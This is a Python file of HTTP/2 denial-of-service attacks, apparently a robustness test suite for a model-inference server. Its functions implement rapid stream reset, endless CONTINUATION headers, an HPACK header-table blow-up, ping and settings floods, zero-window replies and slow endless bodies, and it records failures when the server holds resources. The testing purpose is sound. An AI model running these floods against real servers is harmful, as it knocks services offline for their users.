"""Attacks that only HTTP/2 has: many streams on few connections."""

import asyncio
import struct

import numpy as np

from attacks import http1, http2, ordinary
from attacks.registry import attack

INFER = "/v2/models/langid/infer"


@attack(clients=50, seconds=20, short_seconds=5)
async def slow_bodies_in_streams(target):
    """Fifty streams on one connection, 32 MiB each, none of which ends."""
    connection = await http2.Connection.open(target)

    async def client(index):
        stream = 2 * index + 1
        connection.writer.write(http2.headers(stream, INFER))
        if await connection.send(stream, bytes(2**25)):
            target.count("bodies begun")
        await target.wait()

    await target.together(50, client)
    target.notes["frames"] = connection.frames
    connection.close()


@attack(clients=50, seconds=20, short_seconds=4, in_short=False)
async def slow_bodies_in_streams_of_many(target):
    """Twenty connections of ten streams of 8 MiB, at paths that read no body."""
    async def client(index):
        connection = await http2.Connection.open(target)
        paths = [INFER, "/v2/health/live", "/v2/nothing", "/v2/models/none/infer"]
        for stream in range(1, 21, 2):
            connection.writer.write(http2.headers(stream, paths[index % 4]))
            if await connection.send(stream, bytes(2**23)):
                target.count("bodies begun")
        await target.wait()
        connection.close()

    await target.together(20, client)


@attack(clients=8)
async def streams_reset(target):
    """Streams that are opened and reset at once, with and without their whole request."""
    body = ordinary.sentence("Alle Menschen sind frei").split(b"\r\n\r\n", 1)[1]

    async def client(index):
        while target.left():
            connection = await http2.Connection.open(target)
            stream = 1
            while target.left() and not connection.closed and stream < 2**30:
                frames = []
                for _ in range(50):
                    frames.append(http2.headers(stream, INFER))
                    if index % 2:
                        frames.append(http2.frame(http2.DATA, stream, body, http2.END_STREAM))
                    frames.append(http2.frame(http2.RESET, stream, struct.pack(">I", 8)))
                    stream += 2
                connection.writer.write(b"".join(frames))
                try:
                    await connection.writer.drain()
                except OSError:
                    break
                target.count("reset", 50)
                await asyncio.sleep(0)
            connection.close()

    await target.together(8, client)


@attack(clients=8, in_short=False)
async def streams_that_the_server_resets(target):
    """Whole requests behind which a wrong frame makes the server itself reset the stream."""
    head, body = ordinary.sentence("Alle Menschen sind frei " * 40).split(b"\r\n\r\n", 1)

    async def client(_):
        connection = await http2.Connection.open(target)
        for stream in range(1, 100_001, 2):
            if not target.left() or connection.closed:
                break
            connection.writer.write(
                http2.headers(stream, INFER) + http2.frame(http2.DATA, stream, body, http2.END_STREAM)
                + http2.frame(http2.WINDOW, stream, struct.pack(">I", 0))
            )
            connection.window -= len(body)
            await connection.writer.drain()
            target.count("streams")
            while connection.window < 10_000 and not connection.closed:
                await asyncio.sleep(0.001)
        target.notes["frames"] = connection.frames
        connection.close()
        raise ConnectionError

    await target.together(8, client)


@attack(clients=8, in_short=False)
async def headers_that_go_on(target):
    """Headers whose continuations never end."""
    async def client(_):
        connection = await http2.Connection.open(target)
        connection.writer.write(http2.frame(http2.HEADERS, 1, http2.block(INFER)))
        more = http2.frame(http2.CONTINUATION, 1, http2.field("a", "b" * 4000) * 4)
        while target.left() and not connection.closed:
            connection.writer.write(more)
            await connection.writer.drain()
            target.count("continuations")
        connection.close()
        raise ConnectionError

    await target.together(8, client)


@attack(clients=8)
async def headers_that_unfold(target):
    """A header of 4 kB in the table, which sixteen thousand bytes refer to a thousand times each."""
    remembered = b"\x40" + http2.text("a") + http2.text("b" * 4000)

    async def client(_):
        connection = await http2.Connection.open(target)
        stream = 1
        while target.left() and not connection.closed:
            payload = http2.block(INFER) + remembered + b"\xbe" * 10_000
            connection.writer.write(http2.frame(http2.HEADERS, stream, payload, http2.END_HEADERS))
            await connection.writer.drain()
            target.count("streams")
            stream += 2
            await asyncio.sleep(0.001)
        target.notes["frames"] = connection.frames
        connection.close()
        raise ConnectionError

    await target.together(8, client)


@attack(clients=8)
async def pings(target):
    """Pings, settings and windows at a high rate, whose answers nobody reads."""
    kinds = [
        http2.frame(http2.PING, payload=b"12345678"), http2.frame(http2.SETTINGS),
        http2.frame(http2.SETTINGS, payload=struct.pack(">HI", 4, 70_000)),
    ]

    async def client(index):
        loop, connection = asyncio.get_running_loop(), await target.socket(receive_buffer=4096)
        try:
            await loop.sock_sendall(connection, http2.PREFACE + http2.frame(http2.SETTINGS))
            while target.left():
                await loop.sock_sendall(connection, kinds[index % len(kinds)] * 500)
                target.count("frames", 500)
        finally:
            connection.close()

    await target.together(9, client)


@attack(clients=64, seconds=15, short_seconds=4)
async def replies_without_a_window(target):
    """Streams that ask for 16 MB each and allow none of it to be sent."""
    tensors = {"x": ("FP32", (1, 1000, 1), np.ones(1000, np.float32).tobytes())}
    request = http1.binary("wide", tensors, {"binary_data_output": True})
    head, body = request.split(b"\r\n\r\n", 1)
    length = head.split(b"Inference-Header-Content-Length: ")[1].split(b"\r\n")[0].decode()

    async def client(_):
        connection = await http2.Connection.open(target, window=0)
        for stream in range(1, 65, 2):
            more = [("inference-header-content-length", length)]
            connection.writer.write(http2.headers(stream, "/v2/models/wide/infer", more=more))
            await connection.send(stream, body, end=True)
            target.count("asked")
        await target.wait()
        target.notes["frames"] = connection.frames
        connection.close()

    await target.together(4, client)


@attack(clients=64, short_seconds=3, in_short=False)
async def streams_beyond_the_number(target):
    """Connections that open ten thousand streams without their bodies."""
    async def client(_):
        connection = await http2.Connection.open(target)
        for stream in range(1, 20_001, 2):
            if connection.closed or not target.left():
                break
            connection.writer.write(http2.headers(stream, INFER))
            if stream % 201 == 0:
                await connection.writer.drain()
        target.notes["frames"] = connection.frames
        if connection.closed:
            raise ConnectionError
        await target.wait()
        connection.close()

    await target.together(50, client)


@attack(clients=8, flags=("--reply-timeout", "1s"), seconds=10, short_seconds=6)
async def replies_taken_in_part(target):
    """Replies of which the client allows a byte, or all but half a megabyte, or all but a byte, and no more ever."""
    reader, writer = await target.open()
    tensors = {"x": ("FP32", (1, 100, 1), np.ones(100, np.float32).tobytes())}
    request = http1.binary("wide", tensors, {"binary_data_output": True})
    head, body = request.split(b"\r\n\r\n", 1)
    head = head.split(b"Inference-Header-Content-Length: ")[1].split(b"\r\n")[0].decode()
    more = [("inference-header-content-length", head)]
    _, headers, _ = await http1.exchange(reader, writer, request)
    writer.close()
    length = int(headers["content-length"])
    small = ordinary.sentence("Alle Menschen sind frei").split(b"\r\n\r\n", 1)[1]

    async def client(index):
        window = (1, length - 2**19, length - 1, 1)[index % 4]
        connection = await http2.Connection.open(target, window)
        connection.writer.write(http2.frame(http2.WINDOW, payload=struct.pack(">I", 2**30)))
        for stream in range(1, 257 if index % 4 == 3 else 3, 2):
            if index % 4 == 3:
                connection.writer.write(http2.headers(stream, INFER))
                await connection.send(stream, small, end=True)
            else:
                connection.writer.write(http2.headers(stream, "/v2/models/wide/infer", more=more))
                await connection.send(stream, body, end=True)
            target.count("asked")
        end = asyncio.get_running_loop().time() + 4
        while not connection.closed and asyncio.get_running_loop().time() < end:
            await asyncio.sleep(0.05)
        if not connection.closed:
            target.fail(f"a reply is kept of which {window} bytes were allowed")
        connection.close()

    await target.together(8, client)


@attack(clients=64, seconds=15, short_seconds=4, refusals=True, budget=2**28)
async def small_bodies_and_replies_in_streams(target):
    """128 streams of a connection with 60 kB each for the index, which never end, or with metrics that nobody reads."""
    async def client(index):
        connection = await http2.Connection.open(target, window=0)
        for stream in range(1, 257, 2):
            if index < 4:
                path = "/metrics" if stream % 32 == 1 else "/v2/models/stats"
                connection.writer.write(http2.headers(stream, path, "GET", end=True))
            else:
                connection.writer.write(http2.headers(stream, "/v2/repository/index"))
                if not await connection.send(stream, b" " * 60_000):
                    break
                await asyncio.sleep(0.02)
            target.count("streams")
        await target.wait()
        target.notes["frames"] = connection.frames
        connection.close()

    await target.together(85, client)
